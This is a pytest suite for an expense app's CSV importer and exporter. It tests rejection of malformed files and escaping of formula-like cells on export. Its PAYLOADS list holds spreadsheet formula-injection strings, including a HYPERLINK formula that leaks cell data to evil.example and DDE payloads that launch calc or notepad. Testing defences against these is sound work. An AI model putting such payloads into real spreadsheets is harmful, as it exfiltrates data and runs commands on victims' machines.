"""Bad CSVs import nothing and say why; nothing formula-like is ever exported unescaped.

The corpus lives in tests/data/bad_csv/ (written by make_corpus.py there; this suite also
checks the files still match the script). The huge files are generated here.
"""

from __future__ import annotations

import csv
import importlib.util
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from codatdesk.export import export_expenses, spreadsheet_safe, write_csv
from codatdesk.importer import MAX_FILE_BYTES, MAX_ROWS, import_file
from tests.reliability.support import count_rows

pytestmark = pytest.mark.reliability

CORPUS_DIR = Path(__file__).resolve().parents[1] / "data" / "bad_csv"
FORMULA = "looks like a spreadsheet formula"
EXPECTED = {  # file -> what the report must say (every file imports nothing)
    "double_utf8_bom.csv": "missing column(s): date",
    "bom_inside_header.csv": "missing column(s): supplier",
    "binary_garbage.csv": "not UTF-8",
    "empty.csv": "the file is empty",
    "only_header.csv": "header but no expenses",
    "missing_columns.csv": "missing column(s): total",
    "duplicate_columns.csv": "duplicate column(s): net",
    "mismatched_quotes.csv": "line 3: has 2 field(s), the header has 12",
    "stray_quote_mid_file.csv": "line 2: has 2 field(s), the header has 12",  # where the quote opens
    "short_row.csv": "line 3: has 3 field(s), the header has 12",
    "nul_bytes.csv": "control character",
    "control_characters.csv": "control character",
    "formula_hyperlink.csv": "column supplier: " + FORMULA,
    "formula_plus_cmd.csv": "column description: " + FORMULA,
    "formula_minus_cmd.csv": "column description: " + FORMULA,
    "formula_at_sum.csv": "column reference: " + FORMULA,
    "formula_tab_prefixed.csv": "column description: " + FORMULA,
    "formula_cr_prefixed.csv": "column account_name: " + FORMULA,
    "formula_in_amount.csv": "column net: bad amount",
    "bad_date.csv": "column date: bad date",
    "bad_amount.csv": "column net: bad amount",
    "unknown_currency.csv": "unknown currency 'XYZ'",
    "totals_do_not_add_up.csv": "totals do not add up",
    "too_many_decimals.csv": "bad amount",
    "one_bad_line_among_good.csv": "line 4, column date: bad date",
}


def corpus_script():
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS_DIR / "make_corpus.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_corpus_files_match_their_script():
    corpus = corpus_script().CORPUS
    assert set(corpus) == set(EXPECTED) == {p.name for p in CORPUS_DIR.glob("*.csv")}
    for name, data in corpus.items():
        assert (CORPUS_DIR / name).read_bytes() == data, f"{name} differs: run make_corpus.py"


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_bad_file_imports_nothing_and_says_why(db, name):
    report = import_file(db, CORPUS_DIR / name, "company")
    assert not report.ok and report.added == 0
    assert count_rows(db, "expense") == 0
    said = "\n".join(str(error) for error in report.errors)
    assert EXPECTED[name] in said, f"{name}: {said}"
    assert "problem(s) found" in report.summary() and "nothing imported" in report.summary()


def test_a_file_over_the_size_limit_imports_nothing(db, tmp_path):
    good = corpus_script().GOOD
    header = corpus_script().HEADER
    path = tmp_path / "huge.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(header + "\n")
        written = 0
        n = 0
        while written <= MAX_FILE_BYTES:
            line = good.replace("R-1", f"R-{n}") + "\n"
            fh.write(line)
            written += len(line)
            n += 1
    report = import_file(db, path, "company")
    assert report.added == 0 and count_rows(db, "expense") == 0
    assert f"the limit is {MAX_FILE_BYTES:,}" in str(report.errors[0])


def test_a_file_over_the_row_limit_imports_nothing(db, tmp_path):
    path = tmp_path / "many.csv"
    rows = [f"2026-11-02,S,,429,,090,,1.00,0,1.00,GBP,R{n}" for n in range(MAX_ROWS + 1)]
    path.write_text(corpus_script().HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    assert path.stat().st_size < MAX_FILE_BYTES
    report = import_file(db, path, "company")
    assert report.added == 0 and count_rows(db, "expense") == 0
    assert f"more than {MAX_ROWS:,} rows" in str(report.errors[-1])


# --- export -------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|'/C notepad'!'A1'", "+1+1", "-1-1", "@A1",
    " =1+1", "  +cmd|' /C calc'!A0", "\n=1+1", "\u00a0=1+1", "\r\n@SUM(A1)",
]
PLAIN = ["12.50", "-12.50", "+3", "0", "Taxi", "Acme = Ltd", "a+b", "email@example.com", ""]
STARTS = ("=", "+", "-", "@")


def looks_like_a_formula(cell: str) -> bool:
    """What a spreadsheet may run: a formula sign first (after any leading whitespace, which some
    importers strip), or a tab/CR first; a plain number is just a number."""
    head = cell.lstrip()
    if not (cell.startswith(("\t", "\r")) or head.startswith(STARTS)):
        return False
    return not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", head.strip())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_escaped(payload):
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_cells_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell


@settings(max_examples=2000, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@ \t\r\n\u00a0\u3000.0123456789abc|'\"!()"), max_size=12) | st.text(max_size=30))
def test_nothing_formula_like_is_exported_unescaped(cell):
    out = spreadsheet_safe(cell)
    assert out in (cell, "'" + cell)  # escaping never loses or changes content
    if looks_like_a_formula(cell):
        assert out == "'" + cell, f"{cell!r} exported unescaped"


def test_the_written_file_is_safe_and_complete(tmp_path):
    path = tmp_path / "export.csv"
    rows = [[payload, "12.50", "note"] for payload in PAYLOADS + PLAIN]
    assert write_csv(["Supplier", "Total", "Note"], rows, path) == len(rows)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    assert read[0] == ["Supplier", "Total", "Note"]
    for (cell, total, note), original in zip(read[1:], rows):
        assert not looks_like_a_formula(cell), cell
        assert cell.removeprefix("'") == original[0] and total == "12.50" and note == "note"


def test_the_window_exports_through_the_same_escaping():
    ui_export = pytest.importorskip("codatdesk.ui.export")
    assert ui_export.spreadsheet_safe is spreadsheet_safe
    assert ui_export.export_expenses is export_expenses
